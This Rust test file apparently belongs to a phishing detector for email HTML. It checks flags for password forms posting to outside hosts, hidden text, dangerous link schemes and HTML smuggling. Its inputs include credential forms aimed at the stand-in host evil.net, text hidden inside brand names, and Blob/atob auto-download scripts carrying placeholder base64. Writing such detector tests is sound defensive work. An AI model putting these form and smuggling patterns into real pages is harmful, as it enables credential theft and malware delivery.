//! Signs in pages.

use super::{MAIL, Mail, told};

#[test]
fn forms_that_ask_for_a_login_are_told() {
    for (page, expected) in [
        ("<input type=password>", vec!["FORM_PASSWORD"]),
        (
            "<form action='https://evil.net/x'><input name=user><input type=password></form>",
            vec!["FORM_PASSWORD", "FORM_ELSEWHERE: evil.net"],
        ),
        (
            "<form><input type=password><button formaction='https://u.list-manage.com/'></form>",
            vec!["FORM_PASSWORD", "FORM_ELSEWHERE: list-manage.com"],
        ),
        ("<form action='https://evil.net/x'><input type=email></form>", vec!["FORM_ELSEWHERE: evil.net"]),
        ("<form action='https://sender.com/x'><input type=password></form>", vec!["FORM_PASSWORD"]),
    ] {
        assert_eq!(told(page), expected, "{page}");
    }
}

#[test]
fn a_password_is_asked_for_by_an_input_of_text_as_well() {
    for input in [
        "Password: <input type=text name=pass>",
        "<input name=pass1>",
        "<input name=user><input type=Text name='user[pass]'>",
        "<input name=email><input name=x placeholder='Your Password'>",
        "<input id=passwd>",
        "<input name=PWD type=tel>",
        "<input name=mail_passwort>",
        "<input name=f2 placeholder='Ihr Kennwort'>",
        "<input name=f2 placeholder='Mot de passe'>",
        "<input name=f2 placeholder='&#23494;&#30721;'>",
        // Browsers take a type that they do not know for text.
        "<input type=passw0rd name=password>",
    ] {
        let page = format!("<form action='https://evil.net/x'>{input}</form>");
        assert_eq!(told(&page), ["FORM_PASSWORD", "FORM_ELSEWHERE: evil.net"], "{input}");
        for action in ["https://www.sender.com/login", "https://sender.us1.list-manage.com/subscribe"] {
            let page = format!("<form action='{action}'>{input}</form>");
            assert_eq!(told(&page), Vec::<String>::new(), "{page}");
        }
        assert_eq!(told(input), Vec::<String>::new(), "{input}");
    }
    // A PIN is that of a post office as well.
    let pin = "<form action='https://evil.net/x'>PIN <input name=pin></form>";
    assert_eq!(told(pin), ["FORM_ELSEWHERE: evil.net"]);
    for input in [
        "<input name=boarding_pass>",
        "<input name=compass>",
        "<input name=passenger>",
        "<input name=pincode>",
        "<input name=shopping>",
        "<input type=hidden name=pass>",
        "<input type=radio name=password_question>",
    ] {
        let page = format!("<form action='https://survey.net/x'>{input}</form>");
        assert_eq!(told(&page), Vec::<String>::new(), "{input}");
    }
}

#[test]
fn forms_that_ask_for_something_else_are_spared() {
    for page in [
        "<form action='https://search.net/'><input type=text name=q><input type=radio></form>",
        "<form action='https://www.sender.com/login'><input type=email></form>",
        "<form action='https://our-company.org/login'><input type=email></form>",
        "<form action='https://sender.us1.list-manage.com/subscribe'><input type=email name=EMAIL></form>",
        "<input type=email>",
    ] {
        assert_eq!(told(page), Vec::<String>::new(), "{page}");
    }
}

#[test]
fn links_that_are_none_of_the_web_are_told() {
    assert_eq!(told("<a href='data:text/html,hi'>x</a>"), ["LINK_DATA"]);
    assert_eq!(told("<a href='javascript:void(0)'>x</a>"), ["LINK_JAVASCRIPT"]);
    assert_eq!(told("<a href='file://host/share'>x</a>"), ["LINK_FILE"]);
    let spared = "<img src='data:image/png;base64,AAAA'><a href='mailto:a@b.com'>x</a><a href='tel:1'>y</a>\
                  <a href='cid:x'>z</a><a href='#top'>w</a><a href='webcal://sender.com/x'>v</a>";
    assert_eq!(told(spared), Vec::<String>::new());
}

#[test]
fn hidden_text_is_told_from_where_no_preview_is_as_long() {
    let text = |letters: usize| "word ".repeat(letters / 4);
    let zero = |letters: usize, seen: usize| {
        format!("<span style='font-size:0'>{}</span><p>{}</p>", text(letters), text(seen))
    };
    let none = |letters: usize, seen: usize| {
        format!("<div style='display:none'>{}</div><p>{}</p>", text(letters), text(seen))
    };
    assert_eq!(told(&zero(400, 2_000)), ["HIDDEN_FONT: 400 characters beside 2000 that are seen"]);
    assert_eq!(told(&zero(400, 2_004)), Vec::<String>::new());
    assert_eq!(told(&zero(396, 40)), Vec::<String>::new());
    assert_eq!(told(&none(4_000, 1_000)), ["HIDDEN_TEXT: 4000 characters beside 1000 that are seen"]);
    // A text that is there twice, for two sizes of screen.
    assert_eq!(told(&none(3_996, 1_000)), Vec::<String>::new());
    assert_eq!(told(&none(396, 0)), Vec::<String>::new());
}

#[test]
fn hidden_text_within_words_is_told_however_short() {
    for page in [
        "<p>Pay<span style='font-size:0'>x</span>pal</p>",
        "<p>Pay<div style='display:none'>x</div>pal</p>",
        "<p><b>Pay</b><span hidden>x</span><i>pal</i></p>",
    ] {
        assert_eq!(told(page), ["HIDDEN_IN_WORDS: 1 times"], "{page}");
    }
    for page in [
        "<div style='display:none'>Preview of the news</div><p>News</p>",
        "<p>Word <span style='display:none'>x</span>word</p>",
        "<p>Word<span style='display:none'>x</span> word</p>",
        "<p>Word</p><span style='display:none'>x</span><p>word</p>",
        "<td>Word</td><td style='display:none'>x</td><td>word</td>",
        "<p>Word<span style='display:none'>&shy;&zwnj;\u{200b}</span>word</p>",
        "<p>Price<span style='display:none'>x</span>: 3</p>",
    ] {
        assert_eq!(told(page), Vec::<String>::new(), "{page}");
    }
}

#[test]
fn a_page_that_carries_a_file_is_told() {
    let file = "QUJD".repeat(1_000);
    let smuggled = format!(
        "<script>var b=new Blob([atob('{file}')]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>"
    );
    assert_eq!(told(&smuggled), ["HTML_SMUGGLING: 4000 characters of base64"]);
    let link = format!("<a download='x.zip' href='data:application/zip;base64,{file}'>open</a>");
    assert_eq!(told(&link), ["LINK_DATA", "HTML_SMUGGLING: 4000 characters of base64"]);
    assert_eq!(
        told("<script>b=new Blob([unescape(x)]);navigator.msSaveOrOpenBlob(b,'x')</script>"),
        ["SCRIPT_BUILDS_FILE"]
    );
    let writes = format!("<script>document.write(atob('{}'))</script>", "QUJD".repeat(200));
    assert_eq!(told(&writes), ["SCRIPT_WRITES_PAGE"]);
    for page in [
        "<script type='application/ld+json'>{\"@type\":\"Order\"}</script>".to_owned(),
        "<script>document.getElementById('x').innerHTML = decodeURIComponent(y); eval(z)</script>".to_owned(),
        format!("<img src='data:image/png;base64,{file}'>"),
        format!("<a href='https://sender.com/x?t={file}'>x</a>"),
    ] {
        assert_eq!(told(&page), Vec::<String>::new(), "{page}");
    }
}

#[test]
fn a_file_in_pieces_is_told() {
    let save = "var u=new Blob([b]);a.href=URL.createObjectURL(u);a.download='x.zip';a.click()";
    let strings = |glue: &str| vec![format!("\"{}\"", "QUJD".repeat(10)); 100].join(glue);
    for (file, size) in [
        (format!("b=atob({})", strings("+")), 4_000),
        (format!("b={}", strings(";b+=")), 4_000),
        (format!("b=[{}].join(\"\")", strings(",")), 4_000),
        (format!("b=new Uint8Array([{}77])", "77,90,144,0,".repeat(300)), 3_602),
    ] {
        let told = told(&format!("<script>{file};{save}</script>"));
        assert_eq!(told, [format!("HTML_SMUGGLING: {size} characters of base64")], "{file:.60}");
    }
}

#[test]
fn text_hidden_by_class_is_told_as_by_style() {
    for (css, page) in [
        (".z{font-size:0}", "<p>Pay<span class=z>x</span>pal</p>"),
        ("#z{display:none}", "<p>Pay<span id=z>x</span>pal</p>"),
        ("span.z{opacity:0}", "<p>Pay<span class='a Z'>x</span>pal</p>"),
        ("i{visibility:hidden}", "<p>Pay<i>x</i>pal</p>"),
        (".z{color:#fff}", "<p>Pay<span class=z>x</span>pal</p>"),
        ("", "<p>Pay<span style='color:#fff'>x</span>pal</p>"),
        ("", "<p>Pay<font color=white>x</font>pal</p>"),
    ] {
        for page in [format!("<style>{css}</style>{page}"), format!("{page}<style>{css}</style>")] {
            assert_eq!(told(&page), ["HIDDEN_IN_WORDS: 1 times"], "{page}");
        }
    }
    for (css, page) in [
        ("@media(max-width:600px){.z{display:none}}", "<p>Pay<span class=z>x</span>pal</p>"),
        (".z{background:#333}", "<p class=z>Pay<span style='color:#fff'>x</span>pal</p>"),
        ("table .z{background:#333}", "<p class=z>Pay<span style='color:#fff'>x</span>pal</p>"),
        ("", "<p><td background='cid:x'>Pay<span style='color:#fff'>x</span>pal</p>"),
        ("", "<link rel=stylesheet href='x.css'><p>Pay<span style='color:#fff'>x</span>pal</p>"),
        (".z{font-size:0}.y{font-size:14px}", "<p>Pay<span class=z><b class=y>x</b></span>pal</p>"),
    ] {
        assert_eq!(told(&format!("<style>{css}</style>{page}")), Vec::<String>::new(), "{css} {page}");
    }
}

#[test]
fn each_sign_is_one_finding_with_the_number_of_the_others() {
    let page = "<a href='http://1.1.1.1/'>a</a><a href='http://8.8.8.8/'>b</a><a href='http://8.8.8.8/c'>c</a>\
                <a href='http://9.9.9.9/'>d</a>";
    assert_eq!(Mail { author: "", ..MAIL }.told(page), ["LINK_IP: 1.1.1.1 (and 2 more)"]);
    assert_eq!(MAIL.findings(page)[0].location.as_deref(), Some("part 1"));
}
